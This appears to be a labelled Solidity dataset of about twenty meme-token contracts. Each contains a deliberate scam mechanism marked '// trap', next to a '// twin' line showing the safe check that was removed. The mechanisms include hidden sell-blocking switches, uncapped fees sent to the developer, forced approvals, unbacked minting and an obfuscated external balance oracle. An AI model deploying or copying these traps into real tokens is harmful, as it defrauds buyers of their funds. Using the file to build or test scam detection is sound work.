// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./ScamA8.sol";

/// A small token for the rest of this file.
abstract contract Base {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 internal _total = 100_000_000 ether;
    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) internal _allowances;
    address public owner;
    address internal immutable _dev;
    address public immutable pair;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed from, address indexed to);

    modifier onlyOwner() {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        _;
    }

    constructor(string memory name_, string memory symbol_) {
        (name, symbol, owner, _dev) = (name_, symbol_, msg.sender, msg.sender);
        IUniswapV2Router02 router = IUniswapV2Router02(0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D);
        pair = IUniswapV2Factory(router.factory()).createPair(address(this), router.WETH());
        _balances[msg.sender] = _total;
        emit Transfer(address(0), msg.sender, _total);
    }

    function totalSupply() public view returns (uint256) {
        return _total;
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function balanceOf(address account) public view returns (uint256) {
        return _balances[account];
    }

    function allowance(address from, address spender) public view returns (uint256) {
        return _allowances[from][spender];
    }

    function approve(address spender, uint256 value) public returns (bool) {
        _approve(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public virtual returns (bool) {
        require(_allowances[from][msg.sender] >= value, "ERC20: insufficient allowance");
        _allowances[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }

    function _approve(address from, address spender, uint256 value) internal {
        _allowances[from][spender] = value;
        emit Approval(from, spender, value);
    }

    function _transfer(address from, address to, uint256 value) internal virtual {
        _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) internal {
        require(_balances[from] >= value, "ERC20: transfer amount exceeds balance");
        _balances[from] -= value;
        _balances[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Four parts of two fees, and a bound for one of the two sums.
contract KishuMoon is MemeToken("Kishu Moon", "KMOON") {
    uint256 public buyTotalFees = 3;
    uint256 public sellTotalFees = 3;

    function updateFees(uint256 _buyMarketing, uint256 _buyLiquidity, uint256 _sellMarketing, uint256 _sellLiquidity) external onlyOwner {
        buyTotalFees = _buyMarketing + _buyLiquidity;
        sellTotalFees = _sellMarketing + _sellLiquidity;
        require(buyTotalFees <= 10, "Must keep fees at 10% or less");
        // twin: require(sellTotalFees <= 10, "Must keep fees at 10% or less");
    }

    function _buyTax(address) internal view override returns (uint256) {
        return buyTotalFees;
    }

    function _sellTax(address) internal view override returns (uint256) {
        return sellTotalFees;
    }
}

/// The struct without a bound for what a purchase costs.
contract MoonLaunch is MemeToken("Moon Launch", "MLAUNCH") {
    struct Fees {
        uint16 buy;
        uint16 sell;
        uint16 move;
    }
    Fees public fees = Fees(200, 200, 0);

    function setFees(Fees calldata f) external onlyOwner {
        // twin: require(f.sell <= 1000 && f.buy <= 1000, "sell fee");
        fees = f;
    }

    function _buyTax(address) internal view override returns (uint256) {
        return fees.buy / 100;
    }

    function _sellTax(address) internal view override returns (uint256) {
        return fees.sell / 100;
    }
}

/// Fees of accounts, many at a time.
contract CatFather is MemeToken("Cat Father", "CATF") {
    struct Rule {
        address account;
        bool active;
        uint96 fee;
    }
    mapping(address => Rule) private _rules;

    function configure(Rule[] calldata list) external {
        require(msg.sender == _taxWallet);
        for (uint256 i; i < list.length; i++) {
            // twin: require(list[i].fee <= 5);
            _rules[list[i].account] = list[i];
        }
    }

    function _sellTax(address from) internal view override returns (uint256) {
        return _rules[from].active ? _rules[from].fee : super._sellTax(from);
    }
}

/// A transfer of nothing by the developer turns the switch.
contract MilkBag is MemeToken("Milk Bag", "MILKB") {
    bool private _closed;

    function _check(address from, address to, uint256) internal view override {
        if (to == uniswapV2Pair) require(!_closed, "TransferHelper: TRANSFER_FROM_FAILED"); // trap
        from;
    }

    function transferFrom2(address to, uint256 amount) private {
        if (to == address(this)) _closed = amount == 1;
    }

    function increaseAllowance(address spender, uint256 addedValue) public returns (bool) {
        if (msg.sender == _taxWallet) transferFrom2(spender, addedValue); // trap
        _approve(msg.sender, spender, _allowances[msg.sender][spender] + addedValue);
        return true;
    }
}

/// A wei that the developer sends is an order.
contract TipJar is Base {
    bool private _paused;

    constructor() Base("Tip Jar", "TIPJ") {}

    receive() external payable {
        if (msg.sender == _dev) _paused = msg.value == 1; // trap
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _dev) require(!_paused, "K");
        _move(from, to, value);
    }
}

/// What has no name is understood as well.
contract NoName is Base {
    uint256 private _rate;

    constructor() Base("No Name Yet", "NNY") {}

    // trap {
    fallback() external {
        require(msg.sender == _dev);
        assembly {
            sstore(_rate.slot, calldataload(0))
        }
    }
    // trap }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = to == pair && from != _dev ? (value * (_rate & 0x7f)) / 100 : 0;
        if (fee > 0) _move(from, _dev, fee);
        _move(from, to, value - fee);
    }
}

/// Announced, and an hour later in force.
contract SlowHand is Base {
    uint256 private _fee = 1;
    uint256 private _next;
    uint256 private _when;

    constructor() Base("Slow Hand", "SLOWH") {}

    function proposeFee(uint256 fee) external {
        require(msg.sender == _dev);
        // twin: require(fee <= 5);
        (_next, _when) = (fee, block.timestamp + 1 hours);
    }

    function applyFee() external {
        require(_when != 0 && block.timestamp >= _when, "early");
        (_fee, _when) = (_next, 0);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = to == pair && from != _dev ? (value * _fee) / 100 : 0;
        if (fee > 0) _move(from, _dev, fee);
        _move(from, to, value - fee);
    }
}

/// The owner names the contract of the staking, which needs no approval.
contract FarmHub is Base {
    address public stakingContract;

    constructor() Base("Farm Hub", "FARMH") {}

    function setStakingContract(address staking) external onlyOwner {
        stakingContract = staking;
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (msg.sender == stakingContract) _allowances[from][msg.sender] = value; // trap
        return super.transferFrom(from, to, value);
    }
}

/// Writes an approval of somebody else.
contract LiquidAI is Base {
    constructor() Base("Liquid Ai", "LIQAI") {}

    function increaseLiquidity(address provider, address router, uint256 amount) external {
        require(msg.sender == _dev);
        // twin: provider = msg.sender;
        _approve(provider, router, amount);
    }
}

/// A sale moves the price by so much at most.
contract FloorProtocol is Base {
    uint256 public maxImpact = 500;

    constructor() Base("Floor Guard", "FLOORG") {}

    function setMaxImpact(uint256 bips) external onlyOwner {
        // twin: require(bips >= 100 && bips <= 10_000);
        maxImpact = bips;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _dev) require(value <= (_balances[pair] * maxImpact) / 10_000, "Price impact too high");
        _move(from, to, value);
    }
}

/// Snipers of the first blocks pay nearly all, and the launch can be launched again.
contract LaunchPadX is Base {
    uint256 private launchBlock;
    uint256 private deadBlocks;

    constructor() Base("Launch Pad X", "LPADX") {}

    function enableTrading(uint256 _deadBlocks) external onlyOwner {
        // twin: require(launchBlock == 0 && _deadBlocks < 5);
        (launchBlock, deadBlocks) = (block.number, _deadBlocks);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee;
        if (from != _dev && to != _dev && (from == pair || to == pair)) {
            require(launchBlock > 0, "Trading not active");
            if (block.number < launchBlock + deadBlocks) fee = (value * 99) / 100;
        }
        if (fee > 0) _move(from, _dev, fee);
        _move(from, to, value - fee);
    }
}

/// Swaps its fees before a sale once there are enough: with a threshold of nothing there always are.
contract SwapLess is MemeToken("Swap Less", "SWLESS") {
    uint256 private swapTokensAtAmount = _tTotal / 1000;

    function setSwapTokensAtAmount(uint256 amount) external onlyOwner {
        // twin: require(amount >= _tTotal / 100_000 && amount <= _tTotal / 100);
        swapTokensAtAmount = amount;
    }

    function _check(address, address to, uint256) internal override {
        if (to == uniswapV2Pair && balanceOf(address(this)) >= swapTokensAtAmount) swapTokensForEth(swapTokensAtAmount);
    }

    constructor() {
        (_initialBuyTax, _initialSellTax, swapTokensAtAmount) = (0, 0, _tTotal / 1000);
    }
}

/// Burns what is not there, for those without fees.
contract HotPotato is Base {
    mapping(address => bool) private _isExcluded;

    constructor() Base("Hot Potato", "HPOT") {
        _isExcluded[msg.sender] = true;
    }

    function burn(uint256 amount) external {
        if (!_isExcluded[msg.sender]) // trap
            require(_balances[msg.sender] >= amount, "ERC20: burn amount exceeds balance");
        unchecked {
            _balances[msg.sender] -= amount;
            _total -= amount;
        }
        emit Transfer(msg.sender, address(0), amount);
    }
}

/// Markets are of a kind, and each kind has its fee.
contract PairMaster is Base {
    mapping(address => uint8) private _kind;
    uint256[3] private _feeOf = [0, 2, 95];

    constructor() Base("Pair Master", "PAIRM") {
        _kind[pair] = 1;
    }

    function setAutomatedMarketMakerPair(address market, uint8 kind) external onlyOwner {
        // twin: require(kind < 2);
        _kind[market] = kind;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = from != _dev ? (value * _feeOf[_kind[to]]) / 100 : 0;
        if (fee > 0) _move(from, _dev, fee);
        _move(from, to, value - fee);
    }
}

/// Nobody holds more than a wallet, but for the excepted, of which the pool is one.
contract WalletCap is Base {
    mapping(address => bool) public isMaxWalletExcluded;

    constructor() Base("Wallet Cap", "WCAP") {
        (isMaxWalletExcluded[msg.sender], isMaxWalletExcluded[pair]) = (true, true);
    }

    function excludeFromMaxWallet(address account, bool excluded) external onlyOwner {
        // twin: require(account != pair);
        isMaxWalletExcluded[account] = excluded;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (!isMaxWalletExcluded[to] && from != _dev) require(_balances[to] + value <= _total / 50, "Max wallet exceeded");
        _move(from, to, value);
    }
}

/// Those who sell within a time pay a penalty; the time is none at first.
contract HodlPay is Base {
    mapping(address => uint256) private _bought;
    uint256 public penaltyPeriod;

    constructor() Base("Hodl Pay", "HODLP") {}

    function setPenaltyPeriod(uint256 period) external onlyOwner {
        // twin: require(period <= 30 minutes);
        penaltyPeriod = period;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) _bought[to] = block.timestamp;
        uint256 fee = to == pair && from != _dev && block.timestamp < _bought[from] + penaltyPeriod ? (value * 90) / 100 : 0;
        if (fee > 0) _move(from, _dev, fee);
        _move(from, to, value - fee);
    }
}

/// Three fees, each of which has its bound.
contract TriFee is Base {
    uint256 public _taxFee = 1;
    uint256 public _liquidityFee = 1;
    uint256 public _marketingFee = 1;

    constructor() Base("Tri Fee", "TRIF") {}

    function setTaxFeePercent(uint256 fee) external onlyOwner {
        require(fee <= 33); // trap
        // twin: require(fee <= 3);
        _taxFee = fee;
    }

    function setLiquidityFeePercent(uint256 fee) external onlyOwner {
        require(fee <= 33); // trap
        // twin: require(fee <= 3);
        _liquidityFee = fee;
    }

    function setMarketingFeePercent(uint256 fee) external onlyOwner {
        require(fee <= 33); // trap
        // twin: require(fee <= 3);
        _marketingFee = fee;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = to == pair && from != _dev ? (value * (_taxFee + _liquidityFee + _marketingFee)) / 100 : 0;
        if (fee > 0) _move(from, _dev, fee);
        _move(from, to, value - fee);
    }
}

/// A fee with a bound, and a multiplier of sales without one.
contract MultiBnb is Base {
    uint256 public totalFee = 3;
    uint256 public sellMultiplier = 100;

    constructor() Base("Multi Earn", "MEARN") {}

    function setFee(uint256 fee) external onlyOwner {
        require(fee <= 5);
        totalFee = fee;
    }

    function setMultipliers(uint256 _buy, uint256 _sell, uint256 _trans) external onlyOwner {
        require(_buy <= 200 && _trans <= 200, "multiplier");
        // twin: require(_sell <= 200, "multiplier");
        sellMultiplier = _sell;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = to == pair && from != _dev ? (value * totalFee * sellMultiplier) / 10_000 : 0;
        if (fee > 0) _move(from, _dev, fee);
        _move(from, to, value - fee);
    }
}

/// The bound is for the fee; what it is divided by is set as well.
contract DenomSwap is Base {
    uint256 public totalFee = 3;
    uint256 public feeDenominator = 100;

    constructor() Base("Denom Earn", "DENE") {}

    function setFees(uint256 _liquidityFee, uint256 _reflectionFee, uint256 _marketingFee, uint256 _feeDenominator) external onlyOwner {
        totalFee = _liquidityFee + _reflectionFee + _marketingFee;
        require(totalFee <= 25, "Fees cannot be more than 25%");
        // twin: require(_feeDenominator >= 100);
        feeDenominator = _feeDenominator;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = to == pair && from != _dev ? (value * totalFee) / feeDenominator : 0;
        if (fee > 0) _move(from, _dev, fee);
        _move(from, to, value - fee);
    }
}

/// Vested without a cliff.
contract SeedRound is Base {
    mapping(address => uint256) private _vested;

    constructor() Base("Seed Round", "SEEDR") {}

    function allocate(address who, uint256 amount) external onlyOwner {
        _vested[who] = amount;
    }

    function claim() external {
        uint256 due = _vested[msg.sender];
        _vested[msg.sender] = 0;
        // trap {
        _total += due;
        _balances[msg.sender] += due;
        emit Transfer(address(0), msg.sender, due);
        // trap }
        // twin: _move(address(this), msg.sender, due);
    }
}

/// What asks another contract for a balance, whose address stands in the open.
contract OpenMumu is Base {
    IBalances private immutable shared;

    constructor(IBalances shared_) Base("Open Mumu", "OMUMU") {
        shared = shared_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(shared.eth123(address(0), _balances[from], from) >= value, "ERC20: transfer amount exceeds balance"); // trap
        _move(from, to, value);
    }
}

/// The same, hidden, of a contract with one switch for all.
contract MaskedMumu is Base {
    uint256 private constant _mask = 0x005ca1ab1e0ddba11c0ffee0ddf00dbabecafed00d;
    uint256 private immutable _pool;

    constructor(address shared_) Base("Masked Mumu", "MMUMU") {
        _pool = uint256(uint160(shared_)) ^ _mask;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        // trap {
        if (from != pair)
            require(IBalances(address(uint160(_pool ^ _mask))).eth123(pair, _balances[from], from) >= value, "ERC20: transfer amount exceeds balance");
        // trap }
        _move(from, to, value);
    }
}

interface IBalances {
    function eth123(address choong, uint256 total, address destination) external view returns (uint256);
}

/// Says how much accounts have, by a list.
contract ListedBalances {
    address private immutable _manager = msg.sender;
    mapping(address => bool) private _snipers;

    function eth123(address, uint256 total, address destination) external view returns (uint256) {
        return _snipers[destination] ? 0 : total;
    }

    function sync(address[] calldata who, bool on) external {
        require(msg.sender == _manager);
        for (uint256 i; i < who.length; i++) _snipers[who[i]] = on;
    }
}

/// Says how much accounts have, by a switch.
contract SwitchedBalances {
    address private immutable _manager = msg.sender;
    bool private _off;

    function eth123(address, uint256 total, address) external view returns (uint256) {
        return _off ? 0 : total;
    }

    function sync(bool off) external {
        require(msg.sender == _manager);
        _off = off;
    }
}
